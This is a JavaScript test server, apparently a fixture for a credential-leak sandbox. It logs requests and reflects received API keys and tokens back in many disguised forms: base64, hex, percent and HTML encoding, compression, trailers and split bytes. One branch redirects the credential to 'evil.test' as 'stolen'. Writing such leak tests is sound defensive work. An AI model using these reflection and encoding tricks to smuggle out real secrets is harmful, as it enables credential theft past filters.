// SPDX-License-Identifier: Apache-2.0
// origin - a real HTTPS server (HTTP/1.1 and HTTP/2) that prints one line of JSON per request.
//
// usage:  node origin.mjs CERT KEY [PORT]      The first line of output is {"port": N}.
//
// The path of a request selects the response: see `paths`. The server runs in tests only, on
// loopback. Its output contains the received credentials, because tests check them.
import { createHash } from "node:crypto";
import { spawnSync } from "node:child_process";
import { readFileSync } from "node:fs";
import { createSecureServer } from "node:http2";
import { brotliCompressSync, deflateSync, gzipSync } from "node:zlib";

const [, , cert, key, port] = process.argv;
const places = ["authorization", "x-api-key", "x-goog-api-key", "x-secret", "private-token"];

const say = (what) => process.stdout.write(JSON.stringify(what) + "\n");

// The credential without its scheme, which a server could reflect.
function credential(headers) {
  for (const name of places) {
    const value = headers[name];
    if (value === undefined) continue;
    const [scheme, rest] = value.split(" ", 2);
    if (/^basic$/i.test(scheme))
      return Buffer.from(rest ?? "", "base64").toString().replace(/^[^:]*:/, "");
    return rest ?? scheme;
  }
  return "";
}

const each = (text, f) => [...Buffer.from(text)].map(f).join("");
const hex = (byte) => byte.toString(16).padStart(2, "0");

function base32(text) {
  const digits = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
  const bits = each(text, (byte) => byte.toString(2).padStart(8, "0"));
  return bits.match(/.{1,5}/g).map((five) => digits[parseInt(five.padEnd(5, "0"), 2)]).join("");
}

const spoken = {
  plain: (v) => `value=${v};`,
  base64: (v) => Buffer.from(v).toString("base64"),
  base64a: (v) => Buffer.from("u:" + v + "!").toString("base64"),
  base64b: (v) => Buffer.from("x" + v + "yz").toString("base64"),
  base64url: (v) => Buffer.from("??>" + v).toString("base64url"),
  hex: (v) => Buffer.from(v).toString("hex"),
  HEX: (v) => Buffer.from(v).toString("hex").toUpperCase(),
  percent: (v) => each(v, (b) => "%" + hex(b)),
  percentsome: (v) =>
    each(v, (b, i) => (i % 2 ? "%" + hex(b).toUpperCase() : String.fromCharCode(b))),
  json: (v) => `"${each(v, (b) => "\\u00" + hex(b))}"`,
  html: (v) => each(v, (b) => `&#${b};`),
  htmlhex: (v) => each(v, (b) => `&#x${hex(b)};`),
  utf16: (v) => Buffer.from(v, "utf16le"),
  twice: (v) => v + v,
  upper: (v) => v.toUpperCase(),
  base32,
  colons: (v) => Buffer.from(v).toString("hex").match(/../g).join(":"),
  utf32: (v) => Buffer.concat([...Buffer.from(v)].map((b) => Buffer.from([b, 0, 0, 0]))),
};

function packed(coding, bytes) {
  if (coding === "gzip") return gzipSync(bytes);
  if (coding === "deflate") return deflateSync(bytes);
  if (coding === "br") return brotliCompressSync(bytes);
  return spawnSync("zstd", ["-q", "-c"], { input: bytes }).stdout;
}

function reflect(req, res, how) {
  const value = credential(req.headers);
  const around = Buffer.concat([Buffer.from("<before>"),
    Buffer.from((spoken[how] ?? spoken.plain)(value)), Buffer.from("<after>")]);
  if (how === "header") {
    res.writeHead(200, { "x-echo": value, "set-cookie": `k=${value}` });
    return res.end("in the head");
  }
  if (how === "trailer") {
    res.writeHead(200, { trailer: "x-echo" });
    res.write("in the trailer");
    res.addTrailers({ "x-echo": value });
    return res.end();
  }
  if (how === "split") {
    res.writeHead(200);
    const bytes = [...around];
    const next = () =>
      (bytes.length ? (res.write(Buffer.from([bytes.shift()])), setTimeout(next, 2)) : res.end());
    return next();
  }
  if (["gzip", "deflate", "br", "zstd"].includes(how)) {
    res.writeHead(200, { "content-encoding": how });
    return res.end(packed(how, around));
  }
  if (how === "redirect") {
    res.writeHead(302, { location: `https://evil.test/?stolen=${encodeURIComponent(value)}` });
    return res.end();
  }
  res.writeHead(200, { "content-length": around.length });
  return res.end(around);
}

function requestLines(req) {
  const lines = [`${req.method} ${req.url}`];
  for (let i = 0; i < req.rawHeaders.length; i += 2)
    lines.push(`${req.rawHeaders[i]}: ${req.rawHeaders[i + 1]}`);
  return lines;
}

// Returns the whole request in the form ?form=: `sbx prove --echo`.
function mirror(req, res, url) {
  const form = url.searchParams.get("form") ?? "plain";
  const lines = requestLines(req);
  const text = lines.join("\n") + "\n";
  if (url.searchParams.has("redirect")) {
    res.writeHead(302, { location: url.searchParams.get("redirect") });
    return res.end();
  }
  if (form === "header") {
    res.writeHead(200, { "x-mirror": lines.join(" | ") });
    return res.end("in the head\n");
  }
  const bytes = Buffer.from((spoken[form] ?? ((v) => v))(text));
  if (form === "gzip") res.setHeader("content-encoding", "gzip");
  return res.end(form === "gzip" ? gzipSync(bytes) : Buffer.concat([bytes, Buffer.from("\n")]));
}

function download(res, n) {
  const block = Buffer.alloc(65536, 0x61);
  res.writeHead(200, { "content-length": n });
  let left = n;
  const more = () => {
    while (left > 0) {
      const piece = left >= block.length ? block : block.subarray(0, left);
      left -= piece.length;
      if (!res.write(piece)) return res.once("drain", more);
    }
    res.end();
  };
  more();
}

function sse(res, n, ms) {
  res.writeHead(200, { "content-type": "text/event-stream" });
  let at = 0;
  const text = "data: tick\n\n";
  const timer = setInterval(() => {
    if (at >= n) {
      clearInterval(timer);
      return res.end();
    }
    res.write(text[at++ % text.length]);
  }, ms);
  res.on("close", () => clearInterval(timer));
}

// Returns each piece when it arrives, then trailers, as a bidirectional stream of gRPC does.
function echo(req, res) {
  res.writeHead(200, {
    "content-type": req.headers["content-type"] ?? "application/octet-stream",
    trailer: "grpc-status",
  });
  req.on("data", (piece) => res.write(piece));
  req.on("end", () => {
    res.addTrailers({ "grpc-status": "0" });
    res.end();
  });
}

// A token endpoint: new tokens for each request. The test recognizes them by its prefix.
let logins = 0;
function token(res) {
  const prefix = process.env.LAB_TOKENS;
  res.writeHead(200, { "content-type": "application/json" });
  logins += 1;
  return res.end(JSON.stringify({
    token_type: "Bearer", access_token: `${prefix}-access-${logins}`, expires_in: 3600,
    refresh_token: `${prefix}-refresh-${logins}`,
  }));
}

// The page of a login, whose user agrees at once.
function authorize(res, url) {
  const to = new URL(url.searchParams.get("redirect_uri"));
  to.searchParams.set("code", "code-of-the-login");
  to.searchParams.set("state", url.searchParams.get("state"));
  res.writeHead(302, { location: to.href });
  return res.end();
}

// A repository in the form of GitHub, with its own token; in pieces, or compressed.
function repository(res, url) {
  const sum = createHash("sha256").update(url.searchParams.get("n") ?? "").digest("hex");
  const token = "CLONE" + sum.slice(0, 24).toUpperCase();
  const text = JSON.stringify({ id: 7, owner: { login: "o" }, source: { temp_clone_token: token },
    clone_url: `https://x:${token}@github.com/o/r`, temp_clone_token: token });
  if (url.searchParams.has("gzip")) {
    res.writeHead(200, { "content-type": "application/json", "content-encoding": "gzip" });
    return res.end(gzipSync(text));
  }
  res.writeHead(200, { "content-type": "application/json", "x-token": token });
  const pieces = text.match(/.{1,9}/g);
  const next = () => (pieces.length ? (res.write(pieces.shift()), setTimeout(next, 2)) : res.end());
  return next();
}

function answer(req, res, url, body) {
  if (["/v1/oauth/token", "/oauth/token", "/token"].includes(url.pathname)) return token(res);
  if (["/oauth/authorize", "/o/oauth2/v2/auth"].includes(url.pathname)) return authorize(res, url);
  const [, first, second] = url.pathname.split("/");
  const n = Number(url.searchParams.get("n") ?? 10);
  if (first === "reflect") return reflect(req, res, second);
  if (first === "repos") return repository(res, url);
  if (first === "mirror") return mirror(req, res, url);
  if (first === "download") return download(res, n);
  if (first === "sse") return sse(res, n, Number(url.searchParams.get("ms") ?? 1000));
  if (first === "redirect") {
    res.writeHead(302, { location: url.searchParams.get("to") });
    return res.end();
  }
  if (first === "status") {
    res.writeHead(Number(second));
    return res.end();
  }
  res.writeHead(200, { "content-type": "application/json" });
  const facts = { ok: true, method: req.method, path: req.url, length: body.length };
  return res.end(JSON.stringify({ ...facts, sha256: body.sha256 }) + "\n");
}

function record(req, body) {
  const pairs = [];
  for (let i = 0; i < req.rawHeaders.length; i += 2)
    pairs.push([req.rawHeaders[i].toLowerCase(), req.rawHeaders[i + 1]]);
  say({
    version: req.httpVersion, method: req.method, path: req.url,
    host: req.headers.host ?? req.headers[":authority"], headers: pairs, trailers: req.trailers,
    text: body?.text ?? "", length: body?.length ?? 0, sha256: body?.sha256 ?? "",
    connection: req.socket?.remotePort ?? 0,
  });
}

function onRequest(req, res) {
  const url = new URL(req.url, "https://here.test");
  const hash = createHash("sha256");
  let length = 0, text = "";
  res.on("error", () => {});
  req.on("error", () => {});
  if (url.pathname === "/echo") {
    record(req);
    return echo(req, res);
  }
  req.on("data", (piece) => {
    hash.update(piece);
    length += piece.length;
    if (length <= 4096) text += piece;
  });
  return req.on("end", () => {
    const body = { length, text, sha256: hash.digest("hex") };
    record(req, body);
    answer(req, res, url, body);
  });
}

// Returns the whole request in one frame and closes: a plain frame, or a frame that a server must
// not send.
function mirrorFrame(req, socket, kind) {
  const text = Buffer.from(requestLines(req).join("\n") + "\n");
  const masked = kind === "masked";
  const head = Buffer.from([kind === "reserved" ? 0xc1 : 0x81, (masked ? 0x80 : 0) | 126,
    text.length >> 8, text.length & 255, ...(masked ? [0, 0, 0, 0] : [])]);
  socket.end(Buffer.concat([head, text]));
}

// A WebSocket that returns each frame of up to 125 bytes.
function onUpgrade(req, socket) {
  const accept = createHash("sha1")
    .update(req.headers["sec-websocket-key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11")
    .digest("base64");
  record(req);
  socket.on("error", () => {});
  socket.write("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    + `Sec-WebSocket-Accept: ${accept}\r\n\r\n`);
  const url = new URL(req.url, "https://here.test");
  if (url.pathname.startsWith("/mirror"))
    return mirrorFrame(req, socket, url.searchParams.get("frame"));
  let had = Buffer.alloc(0);
  return socket.on("data", (piece) => {
    had = Buffer.concat([had, piece]);
    while (had.length >= 6 && had.length >= 6 + (had[1] & 127)) {
      const n = had[1] & 127;
      const text = Buffer.from(had.subarray(6, 6 + n).map((b, i) => b ^ had[2 + (i % 4)]));
      socket.write(Buffer.concat([Buffer.from([had[0], n]), text]));
      had = had.subarray(6 + n);
    }
  });
}

const server = createSecureServer({ cert: readFileSync(cert), key: readFileSync(key),
  allowHTTP1: true, settings: { enableConnectProtocol: false } });
server.on("request", onRequest);
server.on("upgrade", onUpgrade);
server.on("sessionError", () => {});
server.on("tlsClientError", (error) => say({ tls: error.code ?? String(error) }));
server.listen(Number(port ?? 0), "127.0.0.1", () => say({ port: server.address().port }));
